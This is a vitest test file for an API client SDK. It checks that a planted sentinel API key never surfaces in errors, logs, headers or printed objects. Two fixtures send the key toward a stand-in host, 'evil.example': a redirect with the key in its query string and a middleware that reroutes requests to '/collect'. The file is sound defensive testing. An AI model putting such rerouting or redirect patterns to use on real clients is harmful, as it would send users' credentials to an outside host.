// The key appears in no output: a sentinel is planted, everything that can be printed is printed, and searched.
import { inspect } from 'node:util';
import { expect, test } from 'vitest';
import type { Logger, Middleware } from '../../src/index.js';
import { agent, envelope, json, type Sent, sentinelKey, type Step, text, world } from './world.js';

function printed(value: unknown): string {
  const forms = [inspect(value, { depth: null, showHidden: true, getters: true }), String(value)];
  try {
    forms.push(JSON.stringify(value) ?? '');
  } catch (thrown) {
    forms.push(inspect(thrown, { depth: null, showHidden: true }));
  }
  try {
    forms.push(inspect(structuredClone(value), { depth: null }));
  } catch (thrown) {
    forms.push(inspect(thrown, { depth: null, showHidden: true }));
  }
  if (value instanceof Error)
    forms.push(value.stack ?? '', printed(value.cause ?? ''), ...Object.values(value).map(String));
  if (value instanceof Error && 'headers' in value)
    forms.push(JSON.stringify([...(value.headers as Headers)]));
  return forms.join('\n');
}

/** Answers and failures that hand the key back, as servers and transports have been seen to do. */
const echoes: { name: string; step: Step }[] = [
  { name: 'a message', step: envelope(400, `bad ${sentinelKey}`) },
  { name: 'details', step: envelope(401, 'invalid_api_key', { key: sentinelKey, [sentinelKey]: 1 }) },
  { name: 'a page', step: text(502, `<pre>Authorization: Bearer ${sentinelKey}</pre>`) },
  {
    name: 'a header',
    step: text(404, '', { 'x-debug': `Bearer ${sentinelKey}`, 'x-request-id': sentinelKey }),
  },
  { name: 'a success that is no JSON', step: text(200, `oops ${sentinelKey}`) },
  { name: 'a success that is empty', step: text(200, '') },
  {
    name: 'a success of another shape',
    step: json(200, [sentinelKey], { 'x-request-id': sentinelKey, 'x-debug': sentinelKey }),
  },
  { name: 'a redirect', step: text(302, '', { location: `https://evil.example/?k=${sentinelKey}` }) },
  {
    name: 'an error that carries the request',
    step: (sent: Sent) => {
      const authorization = sent.headers.get('authorization');
      throw Object.assign(
        new Error(`cannot send ${authorization}`, { cause: { init: sent.init, authorization } }),
        {
          config: { headers: { authorization } },
          code: `E_${sentinelKey}`,
        },
      );
    },
  },
  {
    name: 'an error whose code holds it',
    step: (sent: Sent) => {
      throw Object.assign(new Error(''), { code: `E_${sent.headers.get('authorization')}` });
    },
  },
  {
    name: 'a thrown object',
    step: (sent: Sent) => {
      throw { headers: Object.fromEntries(sent.headers) };
    },
  },
];

test.each(echoes)('the key is in no error, log or snapshot when it comes back in $name', async ({ step }) => {
  const kept: unknown[] = [];
  const write = (line: string) => void kept.push(line);
  const logger: Logger = { debug: write, info: write, warn: write, error: write };
  const recorder: Middleware = async (request, next) => {
    kept.push(request, [...request.headers], { ...request });
    const response = await next(request);
    kept.push([...request.headers]);
    return response;
  };
  const { client, sent, fail } = world([step], {
    logger,
    logLevel: 'debug',
    middleware: [recorder],
    onRetry: (info) => kept.push(info),
  });
  kept.push(
    await fail(client.agents.get('ag_abc')),
    await fail(client.agents.wait('ag_abc')),
    await fail(client.agents.list()),
  );
  expect(sent.length).toBeGreaterThan(2);
  expect(sent.every((call) => call.headers.get('authorization') === `Bearer ${sentinelKey}`)).toBe(true);
  expect(kept.length).toBeGreaterThan(6);
  for (const value of kept) expect(printed(value)).not.toContain('sentinel');
});

test('the key is in nothing that a client, its parts, its results and its running calls can print', async () => {
  const { client, run } = world([json(200, { ...agent, data: [agent], next_cursor: null })]);
  const call = client.agents.get('ag_abc');
  const things = [
    client,
    client.agents,
    client.memory,
    client.http,
    call,
    client.withOptions({ maxRetries: 1 }),
  ];
  for (const thing of things) expect(printed(thing)).not.toContain('sentinel');
  for (const thing of [
    await run(call.withResponse()),
    await run(client.agents.list()),
    { nested: { deep: [client] } },
  ])
    expect(printed(thing)).not.toContain('sentinel');
});

test('the key is in no error of the constructor or of a key function', async () => {
  const bad = `${sentinelKey}\n`;
  const { client, fail } = world([json(200, agent)], { apiKey: () => bad });
  const error = await fail(client.agents.get('ag_abc'));
  expect(error).toMatchObject({ name: 'JettsonConfigError', option: 'apiKey' });
  expect(printed(error)).not.toContain('sentinel');
  let thrown: unknown;
  try {
    world([], { apiKey: bad });
  } catch (caught) {
    thrown = caught;
  }
  expect(printed(thrown)).not.toContain('sentinel');
});

test('this test sees a key that is printed', () => {
  expect(printed({ apiKey: sentinelKey })).toContain('sentinel');
  expect(printed(new Error('x', { cause: { a: sentinelKey } }))).toContain('sentinel');
});

test('a middleware that turns the request to another host sends it without the key', async () => {
  const astray: Middleware = (request, next) => next({ ...request, url: 'https://evil.example/collect' });
  const { client, sent, run } = world([json(200, agent)], { middleware: [astray] });
  await run(client.agents.get('ag_abc'));
  expect([sent[0]?.url, sent[0]?.headers.has('authorization')]).toEqual([
    'https://evil.example/collect',
    false,
  ]);
});
